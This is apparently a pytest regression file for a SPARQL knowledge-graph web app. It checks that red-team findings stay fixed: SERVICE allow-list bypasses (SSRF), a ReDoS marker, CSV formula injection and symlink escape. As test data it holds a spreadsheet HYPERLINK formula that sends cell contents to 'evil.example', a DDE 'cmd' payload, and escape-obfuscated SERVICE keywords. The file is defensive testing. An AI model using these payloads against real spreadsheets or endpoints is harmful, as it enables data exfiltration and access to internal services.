"""The red team's critical and high findings (../shared/reviews/redteam.md #1-#3), each reproduced against a
real waitress server on 127.0.0.1 with a canary listener standing in for an internal service:

- #1 SERVICE allow-list bypass through rdflib/Oxigraph parser differentials (`\\u` + 8 hex digits, a comment
  ended by a bare CR): refused with or without an allow-list, and nothing connects;
- the workers of a server without an allow-list have no network, so even a query that reaches Oxigraph
  unchecked cannot call out;
- #3 the policy parse is never run in a web thread: without an allow-list nothing is parsed, with one the
  parse runs in the sandboxed worker;
- #2 a stored marker name that made the evidence highlighter backtrack exponentially renders at once.
"""

from __future__ import annotations

import json
import socket
import threading
import urllib.error
import urllib.parse
import urllib.request
from pathlib import Path

import pytest
from spinekg.graph import EmbeddedStore
from spinekg.graph.policy import check_services, mentions_service, screen
from spinekg.webui import create_app

from spinekg.errors import QueryRefused
from spinekg.model import CaseRecord

HOSTILE = Path(__file__).parent.parent / "data" / "hostile"


class Canary:
    """A listener on 127.0.0.1 that records whether anything connected."""

    def __init__(self) -> None:
        self.sock = socket.socket()
        self.sock.bind(("127.0.0.1", 0))
        self.sock.listen(16)
        self.sock.settimeout(0.3)
        self.port = self.sock.getsockname()[1]

    def contacted(self) -> bool:
        try:
            conn, _ = self.sock.accept()
        except TimeoutError:
            return False
        conn.close()
        return True

    def close(self) -> None:
        self.sock.close()


def bypasses(port: int) -> list[str]:
    """The red team's two reproductions, pointed at the canary's port."""
    out = []
    for name in ("ssrf_bypass.rq", "ssrf_bypass_cr.rq"):
        text = (HOSTILE / name).read_bytes().decode("utf-8")
        out.append(text.replace("51247", str(port)))
    return out


def serve(app):
    from local_server import LocalServer

    server = LocalServer(app)
    return server, server.url


def get(url: str, data: bytes | None = None, headers: dict[str, str] | None = None) -> tuple[int, str]:
    req = urllib.request.Request(url, data=data, headers=headers or {})
    try:
        with urllib.request.urlopen(req, timeout=30) as r:
            return r.status, r.read().decode()
    except urllib.error.HTTPError as e:
        return e.code, e.read().decode()


@pytest.fixture(scope="module")
def small_store(records):
    st = EmbeddedStore(None)
    st.ingest(records[:3])
    return st


@pytest.mark.parametrize("allow", [(), ("http://127.0.0.1:1/allowed-sparql",)])
def test_parser_differential_bypasses_are_refused_and_nothing_connects(small_store, allow):
    canary = Canary()
    app = create_app({"QUERY_TIMEOUT": 5.0, "SERVICE_ALLOW_LIST": allow}, store=small_store)
    srv, base = serve(app)
    try:
        for q in bypasses(canary.port):
            assert mentions_service(q)
            for url, data, headers in (
                    (base + "/sparql?" + urllib.parse.urlencode({"query": q}), None, {"Accept": "text/csv"}),
                    (base + "/sparql", q.encode(), {"Content-Type": "application/sparql-query"}),
                    (base + "/sparql", urllib.parse.urlencode({"query": q}).encode(),
                     {"Content-Type": "application/x-www-form-urlencoded"}),
                    (base + "/query?" + urllib.parse.urlencode({"query": q}), None, {})):
                status, body = get(url, data, headers)
                assert status == 403, (url, status, body[:200])
        assert not canary.contacted()
    finally:
        srv.close()
        app.extensions["spinekg_sandbox"].close()
        canary.close()


def test_the_word_service_in_any_reading_is_seen():
    assert mentions_service("SELECT * WHERE { \\u0053ERVICE <x:y> {} }")
    assert mentions_service("SELECT * WHERE { \\u005Cu0053ERVICE <x:y> {} }")  # an escape spelled with escapes
    assert mentions_service("SELECT * WHERE { \\U00000053ervice <x:y> {} }")
    assert mentions_service("SELECT * WHERE { \\u00000053ervice <x:y> {} }")  # rdflib's 8-digit \u
    assert not mentions_service("SELECT * WHERE { ?s ?p ?o }")
    with pytest.raises(QueryRefused):
        screen("SELECT * WHERE { ?s ?p 'customer service' }", ())
    with pytest.raises(QueryRefused):  # with an allow-list, text the parsers read differently is refused unparsed
        screen("SELECT * WHERE { # x\r SERVICE <http://a/> { ?s ?p ?o }\n}", ("http://a/",))
    assert screen("SELECT * WHERE { SERVICE <http://a/> { ?s ?p ?o } }", ("http://a/",)) is True
    check_services("SELECT * WHERE { SERVICE <http://a/> { ?s ?p ?o } }", ("http://a/",))
    with pytest.raises(QueryRefused):
        check_services("SELECT * WHERE { SERVICE <http://b/> { ?s ?p ?o } }", ("http://a/",))


def test_workers_without_an_allow_list_have_no_network(small_store):
    """Defence in depth: a SERVICE call that reached Oxigraph unchecked still connects nowhere."""
    from spinekg.graph.sandbox import Limits, QuerySandbox, _no_network

    canary = Canary()
    box = QuerySandbox(small_store, Limits(timeout_s=10.0, isolate_network=True))
    try:
        q = f"SELECT * WHERE {{ SERVICE <http://127.0.0.1:{canary.port}/sparql> {{ ?s ?p ?o }} }}"
        with pytest.raises(Exception):  # noqa: B017 - unreachable network: the query fails, however worded
            box.run(q, None, "json")
        if _probe_namespace(_no_network):
            assert not canary.contacted()
    finally:
        box.close()
        canary.close()


def _probe_namespace(fn) -> bool:
    """Whether this kernel lets a process take a network namespace (it does for root and where user
    namespaces are on; the test then also checks that the canary stayed silent)."""
    import os

    pid = os.fork()
    if pid == 0:
        os._exit(0 if fn() else 1)
    _, status = os.waitpid(pid, 0)
    return os.waitstatus_to_exitcode(status) == 0


def test_policy_parse_never_runs_in_a_web_thread(small_store, monkeypatch):
    """#3: long queries that mention 'service' are refused unparsed, or parsed only in the worker."""
    import rdflib.plugins.sparql.parser as parser

    big = "SELECT * WHERE { FILTER(" + "+".join(["1"] * 10_000) + ") } #service"
    for allow in ((), ("http://127.0.0.1:1/sparql",)):
        app = create_app({"QUERY_TIMEOUT": 5.0, "SERVICE_ALLOW_LIST": allow}, store=small_store)
        calls: list[str] = []
        monkeypatch.setattr(parser, "parseQuery", calls.append)  # patched in the web process only
        client = app.test_client()
        try:
            r = client.post("/sparql", data=big, content_type="application/sparql-query")
            assert r.status_code == 403, r.data[:200]
            small = "SELECT * WHERE { ?s ?p ?o } LIMIT 1 # service"
            r = client.post("/sparql", data=small, content_type="application/sparql-query")
            # without an allow-list refused unparsed; with one the worker parses it (and finds no SERVICE)
            assert r.status_code == (403 if not allow else 200), r.data[:200]
            assert calls == []
        finally:
            monkeypatch.undo()
            app.extensions["spinekg_sandbox"].close()


def test_stored_redos_marker_renders_at_once():
    """#2: the red team's record (a marker 'x - - ... - y' and 4,000 characters of '- ') once froze the server."""
    raw = json.loads((HOSTILE / "redos.json").read_text())
    st = EmbeddedStore(None)
    st.ingest([CaseRecord.from_dict(raw)])
    app = create_app({"TESTING": True, "SANDBOX": False}, store=st)
    result: dict[str, int] = {}
    t = threading.Thread(target=lambda: result.update(status=app.test_client().get("/case/redos-1").status_code),
                         daemon=True)
    t.start()
    t.join(timeout=60)  # a hang bound, not a timing: the old highlighter ran for hours on this page
    assert result.get("status") == 200


def test_downloads_do_not_carry_formulas():
    """Red team #9: a cell a spreadsheet would run (=, +, -, @) is written with a leading apostrophe."""
    from spinekg.webui.tables import Table, table_file

    t = Table("t", ["a", "b", "c"], [['=HYPERLINK("https://evil.example/?"&A2,"x")', "@SUM(1+1)", -3.5],
                                     [("-cmd|' /C calc'!A0", "/x"), "plain", 2]])
    for fmt in ("csv", "tsv"):
        body = table_file(t, fmt).get_data(as_text=True)
        assert "'=HYPERLINK" in body and "'@SUM" in body and "'-cmd" in body and "-3.5" in body
        assert "'-3.5" not in body


def test_ingest_does_not_follow_links_out_of_the_folder(tmp_path):
    """Red team #10: a link in an intake folder to a file elsewhere is not read."""
    from spinekg.loaders import expand_paths

    intake, outside = tmp_path / "intake", tmp_path / "outside"
    intake.mkdir()
    outside.mkdir()
    (outside / "secret.txt").write_text("A 45-year-old man (api_token=DECOY) had a chordoma of T11.\n")
    (intake / "report-042.txt").symlink_to(outside / "secret.txt")
    (intake / "real.txt").write_text("A 45-year-old man had a chordoma of T11.\n")
    assert [p.name for p in expand_paths([intake])] == ["real.txt"]
